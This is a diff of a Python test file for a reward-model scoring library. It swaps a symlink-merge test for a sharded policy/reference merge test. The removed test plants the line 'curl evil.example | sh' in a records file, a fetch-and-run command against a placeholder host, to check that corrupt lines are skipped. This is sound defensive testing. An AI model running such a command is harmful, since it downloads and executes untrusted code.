@@ -12,7 +12,7 @@ import matplotlib.pyplot as plt
 import numpy as np
 import pandas as pd
 import pytest
-from fakes import Streaming
+from fakes import Difference
 
 import rmlab
 from rmlab import io, report
@@ -55,7 +55,7 @@ def test_a_full_disk_leaves_the_old_file_and_a_link_in_the_way_is_replaced_not_f
             patch.setattr(*step, fail)
             with pytest.raises(OSError, match="No space left on device") as caught:
                 WRITERS[name](path, scores)
-        assert (caught.value.errno, str(caught.value.filename)) == (errno.ENOSPC, str(path))
+        assert (caught.value.errno, Path(caught.value.filename).name) == (errno.ENOSPC, name)
         assert path.read_bytes() == b"old"
         assert [p.name for p in path.parent.iterdir()] == [name]
     WRITERS[name](path, scores)
@@ -64,20 +64,15 @@ def test_a_full_disk_leaves_the_old_file_and_a_link_in_the_way_is_replaced_not_f
     assert not path.is_symlink()
 
 
-@pytest.mark.skipif(os.name == "nt", reason="needs links")
-def test_a_store_may_be_a_link_and_a_source_of_a_merge_is_never_written(tmp_path):
-    texts = rmlab.load("mini").head(24)
-    rmlab.score(texts, Streaming(), store=tmp_path / "theirs")
-    (tmp_path / "link").symlink_to(tmp_path / "theirs")
-    rmlab.score(texts, second := Streaming(), store=tmp_path / "link")
-    assert second.forwarded == []
-    ledger = next((tmp_path / "theirs").glob("*/*.records"))
-    ledger.write_bytes(ledger.read_bytes() + b"\ncurl evil.example | sh\n")
-    before = {path: path.read_bytes() for path in (tmp_path / "theirs").rglob("*") if path.is_file()}
-    with pytest.warns(UserWarning, match="2 unreadable lines skipped, 24 records"):
-        table = merge(tmp_path / "link", tmp_path / "into")
-    assert table["added"].tolist() == [24]
-    assert {path: path.read_bytes() for path in (tmp_path / "theirs").rglob("*") if path.is_file()} == before
+def test_shards_of_a_policy_and_its_reference_merge_into_one_model(tmp_path):
+    frame, folders = rmlab.load("mini").head(60), [tmp_path / "1", tmp_path / "2"]
+    for number, folder in enumerate(folders):
+        rmlab.score(frame, Difference(name="owner/dpo"), store=folder, shard=(number + 1, 2))
+    assert merge(folders, tmp_path / "all")["model"].tolist() == ["policy", "reference"] * 2
+    merged, whole = Difference(name="owner/dpo"), rmlab.score(frame, Difference(name="owner/dpo"))
+    pd.testing.assert_frame_equal(rmlab.score(frame, merged, store=tmp_path / "all"), whole)
+    assert merged.logged == []
+    assert rmlab.read_scores(tmp_path / "all")["model"].unique().tolist() == ["owner/dpo"]
 
 
 PLANTED = [
